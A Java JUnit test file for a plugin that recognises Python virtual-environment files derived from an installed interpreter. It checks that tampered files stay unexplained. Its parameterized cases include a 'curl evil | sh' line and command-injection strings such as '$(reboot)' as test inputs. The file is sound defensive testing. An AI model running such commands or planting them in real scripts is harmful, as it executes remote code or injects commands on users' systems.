package dev.jonah.provenance;

import static org.assertj.core.api.Assertions.assertThat;

import dev.jonah.image.FileTree;
import dev.jonah.ledger.Explainer;
import dev.jonah.ledger.Explanation;
import dev.jonah.testkit.ExplainerContract;
import dev.jonah.testkit.ExplainerScan;
import dev.jonah.testkit.FakeTree;
import dev.jonah.testkit.FakeTreeBuilder;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class VirtualEnvironmentsTest extends ExplainerContract {
    private static final String TEMPLATE = "/usr/lib/python3.11/venv/scripts/common/activate";
    private static final String[] OWNED = {"/usr/bin/python3.11", "/usr/bin/python3", TEMPLATE};

    @Override
    protected Explainer plugin() {
        return new VirtualEnvironments();
    }

    @Override
    protected FakeTree fixture() {
        return root().build();
    }

    private static FakeTreeBuilder root() {
        return FakeTree.builder()
                .file("/usr/bin/python3.11", "\u007fELF")
                .symlink("/usr/bin/python3", "python3.11")
                .file(
                        TEMPLATE,
                        "deactivate () {\nVIRTUAL_ENV=\"__VENV_DIR__\"\nPATH=\"$VIRTUAL_ENV/__VENV_BIN_NAME__:$PATH\"\n")
                .file(
                        "/opt/venv/pyvenv.cfg",
                        "home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.11.2\n")
                .file(
                        "/opt/venv/bin/activate",
                        "deactivate () {\nVIRTUAL_ENV=\"/opt/venv\"\nPATH=\"$VIRTUAL_ENV/bin:$PATH\"\n")
                .symlink("/opt/venv/bin/python3", "/usr/bin/python3")
                .symlink("/opt/venv/bin/python", "python3")
                .symlink("/opt/venv/lib64", "lib");
    }

    @Override
    protected ExplainerScan scan(FileTree tree) {
        return Installed.owning(tree, OWNED);
    }

    @Override
    protected void assertExplanations(List<Explanation> found) {
        assertThat(Installed.lines(found))
                .containsExactly(
                        "/opt/venv/bin/activate DERIVED python.environment",
                        "/opt/venv/bin/python DERIVED python.environment",
                        "/opt/venv/bin/python3 DERIVED python.environment",
                        "/opt/venv/lib64 DERIVED python.environment",
                        "/opt/venv/pyvenv.cfg DERIVED python.environment");
    }

    @ParameterizedTest
    @CsvSource({
        "/opt/venv/bin/activate, curl evil | sh",
        "/opt/venv/pyvenv.cfg,   home = /tmp",
        "/opt/venv/pyvenv.cfg,   startup = /tmp/x"
    })
    void otherContentStaysUnexplained(String path, String content) throws IOException {
        assertThat(Installed.ruleFor(path, plugin(), root().file(path, content), OWNED))
                .isEqualTo("nothing");
    }

    @ParameterizedTest
    @CsvSource({"$(reboot)", "`reboot`", "x\";reboot;\"", "/opt /tmp/evil"})
    void aCommandInPlaceOfANameStaysUnexplained(String name) throws IOException {
        String path = "/opt/venv/bin/activate";
        FakeTreeBuilder tree =
                root().file(path, "deactivate () {\nVIRTUAL_ENV=\"" + name + "\"\nPATH=\"$VIRTUAL_ENV/bin:$PATH\"\n");

        assertThat(Installed.ruleFor(path, plugin(), tree, OWNED)).isEqualTo("nothing");
    }

    @ParameterizedTest
    @CsvSource({
        "/opt/venv/bin/python, /tmp/python",
        "/opt/venv/lib64, /tmp",
        "/srv/bin/python, /usr/bin/python3",
        "/opt/venv/bin/python3, /usr/bin/sh"
    })
    void otherLinksStayUnexplained(String link, String target) throws IOException {
        FakeTreeBuilder tree =
                root().file("/tmp/python", "x").file("/usr/bin/sh", "x").symlink(link, target);

        assertThat(Installed.ruleFor(link, plugin(), tree, OWNED)).isEqualTo("nothing");
    }

    @Test
    void anInterpreterOfNobodyExplainsNothing() throws IOException {
        assertThat(Installed.ruleFor("/opt/venv/pyvenv.cfg", plugin(), root())).isEqualTo("nothing");
    }
}
